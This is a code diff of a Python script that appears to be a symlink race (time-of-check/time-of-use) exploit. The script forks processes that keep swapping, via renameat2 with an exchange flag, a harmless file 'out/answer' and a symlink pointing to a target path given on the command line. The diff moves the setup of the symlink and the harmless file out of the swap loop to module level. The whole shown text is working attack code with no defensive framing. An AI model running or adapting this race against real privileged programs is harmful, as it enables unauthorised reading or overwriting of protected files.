@@ -12,8 +12,6 @@ libc = ctypes.CDLL(None)
 
 
 def swap():
-    os.symlink(sys.argv[1], "out/other")
-    Path("out/answer").write_text("harmless")
     while True:
         libc.renameat2(HERE, b"out/answer", HERE, b"out/other", EXCHANGE)
 
@@ -27,6 +25,8 @@ def keep():
                     Path(path).write_text("harmless") if path == "out/answer" else os.symlink(sys.argv[1], path)
 
 
+os.symlink(sys.argv[1], "out/other")
+Path("out/answer").write_text("harmless")
 if os.fork() == 0:
     swap()
 if os.fork() == 0:
